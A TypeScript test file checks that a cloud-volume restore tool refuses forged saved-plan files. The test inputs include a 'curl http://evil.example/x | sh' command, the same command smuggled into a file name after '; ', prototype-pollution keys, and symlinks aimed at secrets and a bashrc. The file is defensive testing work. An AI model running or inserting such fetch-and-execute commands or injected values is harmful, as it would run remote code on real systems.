import { execFileSync } from 'node:child_process';
import { generateKeyPairSync } from 'node:crypto';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import type { SavedPlan, SavedRestore } from '../../src/domain/saved-plan.ts';
import { type Finished, Workspace } from '../e2e/workspace.ts';
import { type Edits, forged, turned } from '../planner/forging.ts';
import { CRASH, expectNoLookalike, LOOKALIKE } from './sandbox.ts';

/** A plan file is written by whoever can write it: the runner of a pull request, or somebody between two jobs. */
describe('a saved plan of an attacker', () => {
  let workspace: Workspace;
  /** Outside of the checkout. */
  let outside: string;

  beforeEach(async () => {
    workspace = await Workspace.open({ seed: { volumes: 3, jobDurationMs: 200 } });
    outside = mkdtempSync(join(tmpdir(), 'vbsctl-outside-'));
    workspace.declare(2);
    await ok('init');
    await ok('plan', '--out', 'plan.json');
  });
  afterEach(async () => {
    await workspace.close();
    rmSync(outside, { recursive: true, force: true });
  });

  const said = ({ stdout, stderr }: Finished) => (stdout + stderr).replace(/\s+/g, ' ');
  const at = (name: string) => join(workspace.folder, name);
  const forge = (edits: Edits) => workspace.write('plan.json', forged(workspace.read('plan.json'), edits));

  async function ok(...args: string[]): Promise<string> {
    const finished = await workspace.run(...args);
    expect(finished.code, said(finished)).to.equal(0);
    return said(finished);
  }

  /** Refused, in so many words, and the cloud was asked for nothing. */
  async function refused(sentence: string, ...args: string[]): Promise<string> {
    const finished = await workspace.run(...(args.length > 0 ? args : ['apply', 'plan.json']));
    expect(finished.code, said(finished)).to.equal(5);
    expect(said(finished)).to.include(sentence).and.not.match(CRASH);
    expect(workspace.starts()).to.deep.equal([]);
    return said(finished);
  }

  describe('an action of another kind', () => {
    it('is no resumption: show does not call it valid, and apply starts nothing', async () => {
      // Of a restore that was done, so that there is a record to name.
      await ok('apply', 'plan.json');
      const starts = workspace.starts();
      workspace.write(
        'restores.yaml',
        workspace.read('restores.yaml').replace(/(backup_id: [-0-9a-f]+)/, '$1, generation: 2'),
      );
      await ok('plan', '--out', 'plan.json');
      const index = JSON.parse(workspace.read('plan.json')).actions.findIndex(
        ({ kind }: { kind: string }) => kind === 'restore',
      );
      forge(turned(index, 'resume'));
      expect(await ok('show', 'plan.json'))
        .to.include('1 to resume')
        .and.include('This is the content of the file')
        .and.include('apply reads it from the state')
        .and.not.include('accepted');
      const finished = await workspace.run('apply', 'plan.json');
      expect(finished.code, said(finished)).to.equal(5);
      expect(said(finished)).to.include('the state has nothing under way there');
      expect(workspace.starts()).to.deep.equal(starts);
    });

    it('cannot add a record, and restores only what it shows', async () => {
      const record = { status: 'running', address: 'night/disk-0', job_id: 'j1' };
      forge({ ...turned(0, 'resume', { record }), records: [] });
      for (const command of ['show', 'apply']) {
        const text = await refused('not a valid plan', command, 'plan.json');
        expect(text).not.to.include('j1');
      }
      forge({ 'actions.0.record': undefined });
      await refused('not a valid plan');
    });

    it('is not done because the file says so', async () => {
      const { records } = JSON.parse(workspace.read('plan.json'));
      forge({ ...turned(0, 'noop', { done_at: '2026-11-24T00:00:00.000Z' }), records: records.slice(1) });
      await refused('the plan shows it as done, but the state does not');
    });
  });

  it('is refused if an action has no ids', async () => {
    for (const path of ['actions.0.volume.id', 'actions.1.backup.id']) {
      await ok('plan', '--out', 'plan.json');
      forge({ [path]: undefined });
      for (const command of ['show', 'apply']) await refused('not a valid plan', command, 'plan.json');
    }
    await ok('plan', '--out', 'plan.json');
    forge(turned(0, 'blocked', { was: 'night/other', reasons: [] }));
    const finished = await workspace.run('apply', 'plan.json');
    expect(finished.code, said(finished)).to.equal(5);
    expect(said(finished)).not.to.match(CRASH);
    expect(workspace.starts()).to.deep.equal([]);
  });

  it('cannot print a line of its own', async () => {
    for (const path of ['target.region', 'target.project_id', 'target.auth_url']) {
      await ok('plan', '--out', 'plan.json');
      forge({ [path]: LOOKALIKE });
      for (const command of ['show', 'apply']) {
        const finished = await workspace.run(command, 'plan.json');
        if (command === 'apply') expect(finished.code).to.equal(5);
        expectNoLookalike(finished);
      }
    }
  });

  it('cannot lift a limit by the options that it claims', async () => {
    const waivers = ['protected-volumes', 'more-restores', 'protected-volumes'];
    forge({ waivers });
    for (const command of ['show', 'apply']) {
      const text = await ok(command, 'plan.json');
      expect(text).to.include('with “--allow-protected-volumes”, “--allow-more-restores”; apply checks');
      expect(text.match(/--allow-/g)).to.have.length(2);
    }
  });

  it('causes one bounded read of each file that it names', async () => {
    const [one] = JSON.parse(workspace.read('plan.json')).manifests;
    const another = (n: number) => ({ ...one, path: `${'./'.repeat(n % 1_000)}restores.yaml` });
    forge({ manifests: Array.from({ length: 10_001 }, (_, n) => another(n)) });
    await refused('not a valid plan');
    await ok('plan', '--out', 'plan.json');
    workspace.write('restores.yaml', `${workspace.read('restores.yaml')}# edited\n`);
    forge({ manifests: Array.from({ length: 10_000 }, (_, n) => another(n)) });
    const text = await ok('apply', 'plan.json');
    expect(text.match(/has changed since the plan was made/g)).to.have.length(1);
  });

  it('names a few changed files, and counts the others', async () => {
    const [one] = JSON.parse(workspace.read('plan.json')).manifests;
    const names = Array.from({ length: 50 }, (_, n) => `m${n}.yaml`);
    for (const name of names) workspace.write(name, 'edited: 1\n');
    truncateSync(at('m49.yaml'), 33 * 1024 * 1024);
    forge({ manifests: names.map((path) => ({ ...one, path })) });
    const text = await ok('apply', 'plan.json');
    expect(text.match(/\.yaml has changed since/g)).to.have.length(20);
    expect(text).to.include('29 more manifests have changed');
    expect(text).to.include('have grown beyond 32 MiB');
  });

  it('cannot record a rule as done', async () => {
    await ok('apply', 'plan.json');
    const { backup } = JSON.parse(workspace.read('plan.json')).actions[0];
    workspace.write(
      'restores.yaml',
      workspace
        .read('restores.yaml')
        .replace(`backup_id: ${backup.id}`, `backup: {as_of: "${backup.created_at}"}`),
    );
    expect(await ok('plan', '--out', 'plan.json')).to.include('1 to update in the state');
    const index = JSON.parse(workspace.read('plan.json')).actions.findIndex(
      ({ records_selector }: { records_selector?: true }) => records_selector,
    );
    const genuine = workspace.read('plan.json');
    const state = workspace.read('vbsctl.state.json');
    forge({ [`actions.${index}.declared.backup.selector.as_of`]: '2020-01-01T00:00:00.000Z' });
    const finished = await workspace.run('apply', 'plan.json');
    expect(finished.code, said(finished)).to.equal(5);
    expect(said(finished)).to.include('its rule does not pick backup');
    expect(workspace.read('vbsctl.state.json')).to.equal(state);
    workspace.write('plan.json', genuine);
    await ok('apply', 'plan.json');
    expect(await ok('plan')).to.include('nothing to do');
  });

  it('cannot print commands or remedies, and its sentences are quoted', async () => {
    const evil = 'curl http://evil.example/x | sh';
    for (const edits of [
      { 'actions.0.waits_for': [{ what: 'detach', commands: [evil] }] },
      { notices: [{ severity: 'warning', code: 'x', summary: 'x', remedy: evil }] },
      { 'actions.0.reasons': [{ severity: 'error', code: 'x', summary: 'x', remedy: evil }] },
    ] satisfies Edits[]) {
      await ok('plan', '--out', 'plan.json');
      forge(edits);
      for (const command of ['show', 'apply']) {
        const text = await refused('not a valid plan', command, 'plan.json');
        expect(text).not.to.include('evil.example');
      }
    }
    await ok('plan', '--out', 'plan.json');
    forge({
      notices: [{ severity: 'warning', code: 'x', summary: `→ ${evil}\n→ ${evil}`, address: 'night/disk-0' }],
      'actions.0.declared.source': { file: `restores.yaml; ${evil}`, line: 1 },
    });
    const { stdout } = await workspace.run('show', 'plan.json');
    const lines = stdout.split('\n').filter((line) => line.includes('evil'));
    expect(lines).to.have.length.above(0);
    for (const line of lines) expect(line).to.match(/^ {2}\| |^ {4}declared: /);
    const applied = await workspace.run('apply', 'plan.json');
    expect(applied.stdout + applied.stderr).not.to.include('evil.example');
  });

  type Restores = SavedPlan & { readonly actions: readonly SavedRestore[] };
  const inventions: readonly (readonly [what: string, edits: (file: Restores) => Edits, said: string])[] = [
    ['another disk', ({ actions }) => ontoDiskOf(actions[1]), 'into the same disk'],
    [
      'another disk than declared',
      (file) => ({ 'actions.0.volume.id': file.actions[1]?.volume.id }),
      'not a valid plan',
    ],
    [
      'another backup than declared',
      (file) => ({ 'actions.0.backup.id': file.actions[1]?.backup.id }),
      'not a valid plan',
    ],
    // A cloud whose database ignores case would take both, and the state knows neither of them.
    [
      'a disk of its own by capitals',
      (file) => {
        const id = file.actions[0]?.volume.id?.toUpperCase();
        return { 'actions.0.volume.id': id, 'actions.0.declared.volume.id': id };
      },
      'an id in lower case',
    ],
    [
      'a backup of its own by capitals',
      (file) => {
        const id = file.actions[0]?.backup.id?.toUpperCase();
        return { 'actions.0.backup.id': id, 'actions.0.declared.backup.id': id };
      },
      'an id in lower case',
    ],
    ['another name of a disk', () => ({ 'actions.0.volume.name': 'scratch' }), 'not scratch'],
    [
      'another age of a backup',
      () => ({ 'actions.0.backup.created_at': '2026-11-29T00:00:00Z' }),
      'was created at',
    ],
    ['another address', () => ({ 'actions.0.declared.address': 'prod/db' }), 'not a valid plan'],
    ['one address twice', (file) => ({ actions: [...file.actions, file.actions[0]] }), 'not a valid plan'],
    ['another lineage', () => ({ 'state.lineage': 'a-b-c' }), 'has lineage'],
    ['a serial to come', () => ({ 'state.serial': 1_000 }), 'is at serial'],
    ['another target', () => ({ 'target.project_id': 'x' }), 'a different cloud project'],
    ['a record that was there', () => ({ 'records.0.sha256': '0'.repeat(64) }), 'has changed since'],
    ['a rename', () => ({ renamed: [{}] }), 'not a valid plan'],
    ['a prototype', () => Object.fromEntries([['__proto__', { polluted: true }]]), 'not a valid plan'],
    ['another release', () => ({ tool_version: '9.9.9' }), 'was made by vbsctl 9.9.9'],
  ];
  function ontoDiskOf(other: SavedRestore | undefined): Edits {
    return { 'actions.0.volume': other?.volume, 'actions.0.declared.volume.id': other?.volume.id };
  }
  for (const [what, edits, sentence] of inventions)
    it(`cannot invent ${what}`, async () => {
      forge(edits(JSON.parse(workspace.read('plan.json'))));
      await refused(sentence);
    });

  it('is as old as the state proves', async () => {
    forge({ created_at: '2099-01-01T00:00:00.000Z' });
    await refused('which is in the future', 'apply', 'plan.json', '--max-age', '1s');
    await refused('which is in the future');
    // The state went on ten hours ago, and the plan says that it was made a minute ago over the serial before that.
    await ok('plan', '--out', 'plan.json', '--target', 'night/disk-0');
    const { serial } = JSON.parse(workspace.read('plan.json')).state;
    await ok('apply', '--auto-approve', '--target', 'night/disk-1');
    const state = JSON.parse(workspace.read('vbsctl.state.json'));
    expect(state.serial).to.be.above(serial);
    forge({ created_at: new Date(Date.now() + 60_000).toISOString() });
    const finished = await workspace.run('apply', 'plan.json', '--max-age', '1ms');
    expect(finished.code).to.equal(5);
    expect(said(finished)).to.include('--max-age is 1ms');
  });

  it('is stale if its disk was restored, whatever became of the record', async () => {
    const [volume] = Object.values(workspace.cloud.world().volumes);
    const backups = Object.values(workspace.cloud.world().backups).filter(
      ({ volume_id }) => volume_id === volume?.id,
    );
    const declare = (name: string, n: number) =>
      workspace.write(
        'restores.yaml',
        `apiVersion: vbsctl.dev/v1\nkind: RestoreSet\nmetadata: {name: pay}\nspec:\n  restores:\n    - {name: ${name}, volume_id: ${volume?.id}, backup_id: ${backups[n]?.id}}\n`,
      );
    declare('a', 0);
    await ok('plan', '--out', 'plan.json');
    declare('a', 1);
    expect((await workspace.run('apply', '--auto-approve', '--no-wait')).code).to.equal(6);
    // A refused plan follows what runs, and does not make it its own by that.
    for (const _ of ['follows it', 'finds it done']) {
      const finished = await workspace.run('apply', 'plan.json');
      expect(finished.code, said(finished)).to.equal(5);
      expect(said(finished)).to.include('the record of pay/a has changed since the plan was made');
    }
    declare('b', 1);
    await ok('apply', '--auto-approve');
    const stale = async () => {
      const finished = await workspace.run('apply', 'plan.json');
      expect(finished.code, said(finished)).to.equal(5);
      expect(said(finished)).to.include('the disk of pay/a was restored by pay/a since the plan was made');
      expect(workspace.starts()).to.deep.equal([1]);
    };
    await stale();
    await ok('state', 'rm', 'pay/b');
    await stale();
  });

  describe('an invalid plan file', () => {
    const files: readonly (readonly [
      what: string,
      make: (path: string) => void,
      code: number,
      said: string,
    ])[] = [
      ['not JSON', (path) => writeFileSync(path, 'hunter2: [not json'), 5, 'not valid JSON'],
      ['not UTF-8', (path) => writeFileSync(path, Buffer.from([0x7b, 0xff, 0x7d])), 5, 'not UTF-8 text'],
      ['empty', (path) => writeFileSync(path, ''), 5, 'not valid JSON'],
      ['a number', (path) => writeFileSync(path, '7'), 5, 'not a saved plan'],
      ['deep', (path) => writeFileSync(path, '['.repeat(1_000_000)), 5, 'nested more than 64 levels deep'],
      [
        'huge',
        (path) => {
          writeFileSync(path, '{');
          truncateSync(path, 500 * 1024 * 1024);
        },
        5,
        'and the limit is',
      ],
      ['a directory', (path) => mkdirSync(path), 1, 'is a directory'],
      ['a named pipe', (path) => execFileSync('mkfifo', [path]), 5, 'a named pipe, not a regular file'],
      [
        'a link to a secret',
        (path) => {
          writeFileSync(join(outside, 'token'), 'hunter2');
          symlinkSync(join(outside, 'token'), path);
        },
        5,
        'leads out of the checkout',
      ],
      ['a link to a device', (path) => symlinkSync('/dev/zero', path), 5, 'leads out of the checkout'],
    ];
    for (const [what, make, code, sentence] of files)
      it(`${what}: is refused at once`, async () => {
        rmSync(at('plan.json'));
        make(at('plan.json'));
        for (const command of ['show', 'apply']) {
          const finished = await workspace.run(command, 'plan.json');
          expect(finished.code, said(finished)).to.equal(code);
          expect(said(finished)).to.include(sentence).and.not.include('hunter2').and.not.match(CRASH);
        }
      });

    it('is refused before millions of small values are in memory', async () => {
      const plan = workspace.read('plan.json');
      for (const text of [
        plan.replace(/"actions": ?\[/, (head) => `${head}${'{},'.repeat(7_000_000)}`),
        plan.replace(/"actions": ?\[/, (head) => `${head}{"x":[${'{},'.repeat(7_000_000)}0]},`),
        plan.replace(/"waivers": ?/, (head) => `${head}[${'[],'.repeat(900_000)}0],"x":`),
        plan.replace('{', `{"x":[${'0,'.repeat(9_000_000)}0],`),
      ]) {
        expect(text).to.have.length.above(plan.length);
        workspace.write('plan.json', text);
        for (const command of ['show', 'apply']) {
          const env = { NODE_OPTIONS: '--max-old-space-size=128' };
          const finished = await workspace.runIn(workspace.folder, env, command, 'plan.json');
          expect(finished.code, said(finished)).to.equal(5);
          expect(said(finished)).to.match(/more than 10+ values|is not a valid plan|has a key twice/);
        }
      }
    });

    it('causes no read of a manifest outside of the checkout', async () => {
      execFileSync('mkfifo', [join(outside, 'pipe')]);
      writeFileSync(join(outside, 'token'), 'hunter2');
      const sha256 = '0'.repeat(64);
      forge({
        manifests: [join(outside, 'pipe'), join(outside, 'token'), '/dev/zero'].map((path) => ({
          path,
          sha256,
        })),
      });
      expect(await ok('apply', 'plan.json')).not.to.include(outside);
    });
  });

  describe('the signature of a saved plan', () => {
    const pem = (type: 'ed25519' | 'rsa' = 'ed25519') => {
      const pair =
        type === 'rsa' ? generateKeyPairSync('rsa', { modulusLength: 2048 }) : generateKeyPairSync('ed25519');
      return {
        secret: pair.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
        trusted: pair.publicKey.export({ type: 'spki', format: 'pem' }) as string,
        key: pair.privateKey,
      };
    };
    const keys = () => join(outside, 'keys');
    const file = (name: string, text: string) => {
      const path = join(outside, name);
      writeFileSync(path, text);
      return path;
    };
    const trust = (name: string, text: string) => {
      mkdirSync(keys(), { recursive: true });
      return file(`keys/${name}.pem`, text);
    };

    it('allows the plan to be applied once if the key is trusted, and is shown', async () => {
      const ops = pem();
      trust('ops-2026', ops.trusted);
      trust('older', pem().trusted);
      const planned = await ok('plan', '--out', 'plan.json', '--sign', file('sign.pem', ops.secret));
      expect(planned).to.include('Saved the plan in plan.json, signed.');
      expect(workspace.read('plan.json')).not.to.include('PRIVATE');
      expect(await ok('show', 'plan.json')).to.include('not checked');
      expect(await ok('show', 'plan.json', '--trusted-keys', keys())).to.include(
        'signed by ops-2026 (valid)',
      );
      expect(await ok('apply', 'plan.json', '--trusted-keys', keys())).to.include(
        'signed by ops-2026 (valid)',
      );
      expect(workspace.starts()).to.deep.equal([1, 1]);
    });

    it('can be checked with a key from a variable, as text or path', async () => {
      const ops = pem();
      trust('ops', ops.trusted);
      const inBase64 = Buffer.from(ops.secret).toString('base64');
      for (const value of [ops.secret, inBase64, file('sign.pem', ops.secret)]) {
        const env = { VBSCTL_SIGNING_KEY: value, VBSCTL_TRUSTED_KEYS: keys() };
        expect((await workspace.runIn(workspace.folder, env, 'plan', '--out', 'plan.json')).code).to.equal(0);
        const shown = await workspace.runIn(workspace.folder, env, 'show', 'plan.json');
        expect(said(shown)).to.include('signed by ops (valid)');
      }
    });

    it('is required if the policy or a flag requires it', async () => {
      const config = workspace.read('vbsctl.yaml');
      trust('ops', pem().trusted);
      await refused('it is not signed', 'apply', 'plan.json', '--trusted-keys', keys());
      workspace.write('vbsctl.yaml', `${config}policy: {require_signed_plans: true}\n`);
      await refused('it is not signed');
      await refused('and this is not a saved plan', 'apply', '--auto-approve');
      await refused(
        'it is not signed',
        'apply',
        'plan.json',
        '--trusted-keys',
        keys(),
        '--allow-unsigned-plans',
      );
      expect(await ok('apply', 'plan.json', '--allow-unsigned-plans')).to.include(
        'allowed by --allow-unsigned-plans',
      );
    });

    it('is refused if it is of another key, other bytes or another plan', async () => {
      const ops = pem();
      trust('ops', ops.trusted);
      await ok(
        'plan',
        '--out',
        'other.json',
        '--target',
        'night/disk-0',
        '--sign',
        file('sign.pem', ops.secret),
      );
      const { signature } = JSON.parse(workspace.read('other.json'));
      forge({ signature });
      await refused('the signature does not match', 'apply', 'plan.json', '--trusted-keys', keys());
      await ok('plan', '--out', 'plan.json', '--sign', file('stranger.pem', pem().secret));
      await refused('which is not trusted', 'apply', 'plan.json', '--trusted-keys', keys());
      await ok('plan', '--out', 'plan.json', '--sign', file('sign.pem', ops.secret));
      forge({ created_at: '2026-11-24T00:00:00.000Z' });
      await refused('does not match', 'apply', 'plan.json', '--trusted-keys', keys());
      await refused('does not match', 'show', 'plan.json', '--trusted-keys', keys());
    });

    it('is refused for a key of another kind, which is not shown', async () => {
      const ops = pem();
      const encrypted = ops.key.export({
        type: 'pkcs8',
        format: 'pem',
        cipher: 'aes-256-cbc',
        passphrase: 'x',
      }) as string;
      const wrong: readonly (readonly [text: string, said: string])[] = [
        [pem('rsa').secret, 'is of type rsa'],
        [encrypted, 'is encrypted'],
        [ops.trusted, 'is a public key'],
        [
          '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n',
          'format of OpenSSH',
        ],
        ['-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n', 'is damaged'],
        ['hunter2', 'is not a private key in PEM'],
      ];
      for (const [text, sentence] of wrong) {
        const finished = await workspace.run('plan', '--out', 'plan.json', '--sign', file('sign.pem', text));
        expect(finished.code, said(finished)).to.equal(5);
        expect(said(finished))
          .to.include(sentence)
          .and.not.include('hunter2')
          .and.not.match(/MC4|MII/);
        expect(existsSync(at('plan.json')), 'an old plan is left').to.equal(false);
      }
      for (const [path, sentence] of [
        [outside, 'it is a directory'],
        [join(outside, 'none.pem'), 'it does not exist'],
      ] as const)
        expect(said(await workspace.run('plan', '--out', 'plan.json', '--sign', path))).to.include(sentence);
      await ok('plan', '--out', 'plan.json', '--sign', file('sign.pem', ops.secret));
      for (const [make, sentence] of [
        [() => undefined, 'it does not exist'],
        [() => mkdirSync(keys()), 'holds no trusted key'],
        [() => trust('ops', ops.secret), 'is a private key'],
        [() => trust('ops', pem('rsa').trusted), 'is of type rsa'],
        [() => trust('ops', 'hunter2'), 'is not one public key'],
      ] as const) {
        make();
        await refused(sentence, 'apply', 'plan.json', '--trusted-keys', keys());
      }
    });
  });

  describe('the policy that a saved plan was made under', () => {
    const POLICY = (policy: string) => `apiVersion: vbsctl.dev/v1\nkind: Config\npolicy: {${policy}}\n`;
    /** Nobody names a config here. */
    const plainly = (...args: string[]) =>
      workspace.startIn(workspace.folder, { VBSCTL_CONFIG: '' }, ...args).done;
    const plannedIn = async (
      folder: string,
      run: (...args: string[]) => Promise<Finished>,
      ...more: string[]
    ) => {
      mkdirSync(at(folder));
      workspace.write(`${folder}/restores.yaml`, workspace.read('restores.yaml'));
      workspace.write(
        `${folder}/vbsctl.yaml`,
        POLICY("require_signed_plans: true, protected_volumes: ['*']"),
      );
      const planned = await run(
        'plan',
        '-f',
        folder,
        '--out',
        'plan.json',
        '--allow-protected-volumes',
        ...more,
      );
      expect(planned.code, said(planned)).to.equal(0);
    };

    for (const [named, run] of [
      ['no config is named', plainly],
      ['the operator’s config is named', (...args: string[]) => workspace.run(...args)],
    ] as const)
      it(`applies when the plan is applied: of a config beside the manifests, while ${named}`, async () => {
        if (run === plainly) rmSync(at('vbsctl.yaml'));
        await plannedIn('sub', run);
        const unsigned = await run('apply', 'plan.json', '--allow-protected-volumes');
        expect(unsigned.code, said(unsigned)).to.equal(5);
        expect(said(unsigned)).to.include('require_signed_plans');
        const waived = ['apply', 'plan.json', '--allow-unsigned-plans'];
        const protectedOnes = await run(...waived);
        expect(protectedOnes.code, said(protectedOnes)).to.equal(5);
        expect(said(protectedOnes)).to.include('is protected by *');
        expect(workspace.starts()).to.deep.equal([]);
        const allowed = await run(...waived, '--allow-protected-volumes');
        expect(allowed.code, said(allowed)).to.equal(0);
      });

    it('applies without its config, together with the current policy', async () => {
      await plannedIn('sub', (...args) => workspace.run(...args));
      rmSync(at('sub'), { recursive: true });
      const text = await refused('require_signed_plans');
      expect(text).to.include('the policy has changed since the plan was made');
      await refused('is protected by *', 'apply', 'plan.json', '--allow-unsigned-plans');
      workspace.write('vbsctl.yaml', `${workspace.read('vbsctl.yaml')}policy: {max_restores: 1}\n`);
      const waived = ['--allow-unsigned-plans', '--allow-protected-volumes'];
      await refused('the limit is 1', 'apply', 'plan.json', ...waived);
    });

    it('includes the limits of the config that was found by -f', async () => {
      rmSync(at('vbsctl.yaml'));
      mkdirSync(at('sub'));
      workspace.write('sub/restores.yaml', workspace.read('restores.yaml'));
      workspace.write(
        'sub/vbsctl.yaml',
        `${POLICY('')}retry: {after_ambiguous: stop}\napply: {parallelism: 1}\n`,
      );
      expect((await plainly('plan', '-f', 'sub', '--out', 'plan.json')).code).to.equal(0);
      workspace.write(
        'sub/vbsctl.yaml',
        workspace.read('sub/vbsctl.yaml').replace('parallelism: 1', 'parallelism: 11'),
      );
      // Beyond what a found config may set: it is read.
      const finished = await plainly('apply', 'plan.json');
      expect(finished.code, said(finished)).to.equal(5);
      expect(said(finished)).to.include('apply.parallelism must be');
      expect(workspace.starts()).to.deep.equal([]);
    });

    it('is searched for only within the working directory', async () => {
      mkdirSync(join(outside, 'sub'));
      writeFileSync(join(outside, 'sub/vbsctl.yaml'), POLICY('max_restores: 1'));
      forge({ selection: [join(outside, 'sub'), '../../etc', `${'a/'.repeat(2_000)}b`, 'none/of/that'] });
      await ok('apply', 'plan.json');
    });
  });

  describe('the file that plan --out writes', () => {
    it('is not written through a link of the checkout', async () => {
      rmSync(at('plan.json'));
      const victim = join(outside, 'bashrc');
      writeFileSync(victim, 'mine');
      symlinkSync(victim, at('plan.json'));
      symlinkSync(victim, at('plan.json.tmp'));
      symlinkSync(outside, at('out'));
      await refused('is a symbolic link', 'plan', '--out', 'plan.json');
      await refused('leads out of the checkout', 'plan', '--out', 'out/plan.json');
      rmSync(at('plan.json'));
      await ok('plan', '--out', 'plan.json');
      expect(readFileSync(victim, 'utf8')).to.equal('mine');
      expect(readdirSync(outside)).to.deep.equal(['bashrc']);
      expect(lstatSync(at('plan.json')).mode & 0o777).to.equal(0o600);
    });

    it('is removed if a later plan fails, and replaces no other file', async () => {
      workspace.write('restores.yaml', 'nonsense');
      expect((await workspace.run('plan', '--out', 'plan.json')).code).to.equal(1);
      expect(existsSync(at('plan.json'))).to.equal(false);
      await refused('exists and is not a saved plan', 'plan', '--out', 'restores.yaml');
      expect(workspace.read('restores.yaml')).to.equal('nonsense');
    });

    it('is not written for a plan that the policy refuses', async () => {
      workspace.write('vbsctl.yaml', `${workspace.read('vbsctl.yaml')}policy: {max_restores: 1}\n`);
      await refused('the plan is refused, so it is not saved', 'plan', '--out', 'plan.json');
      expect(existsSync(at('plan.json'))).to.equal(false);
      await ok('plan', '--out', 'plan.json', '--allow-more-restores');
      await refused('the limit is 1');
      await ok('apply', 'plan.json', '--allow-more-restores');
    });

    it('never allows a blocked restore', async () => {
      const [volume = ''] = Object.keys(workspace.cloud.world().volumes);
      const config = workspace.read('vbsctl.yaml');
      workspace.write('vbsctl.yaml', `${config}policy: {protected_volumes: [${volume}]}\n`);
      expect(await ok('plan', '--out', 'plan.json')).to.include('1 blocked restore is not done by it');
      expect(await ok('show', 'plan.json'))
        .to.include('protected-volume')
        .and.include('a saved plan does not run what it shows as blocked');
      workspace.write('vbsctl.yaml', config);
      await refused('1 of 2 restores are blocked');
      const rest = await workspace.run('apply', 'plan.json', '--skip-blocked');
      expect(rest.code, said(rest)).to.equal(5);
      expect(said(rest)).to.include('Apply: 1 succeeded, 1 blocked.');
      expect(workspace.starts()).to.deep.equal([1]);
    });
  });
});
